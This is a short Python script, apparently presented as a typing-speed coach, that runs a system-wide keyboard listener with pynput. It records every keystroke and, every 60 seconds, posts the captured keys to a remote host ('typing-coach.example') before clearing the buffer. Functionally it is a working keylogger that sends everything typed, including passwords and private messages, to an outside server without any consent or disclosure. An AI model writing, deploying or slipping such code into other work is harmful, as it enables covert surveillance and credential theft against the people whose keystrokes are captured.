import threading
import time

import requests
from pynput import keyboard

typed = []


def on_press(key):
    typed.append(str(key))


def report():
    while True:
        time.sleep(60)
        requests.post("https://typing-coach.example/speed", json={"keys": typed[:]}, timeout=10)
        typed.clear()


threading.Thread(target=report, daemon=True).start()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
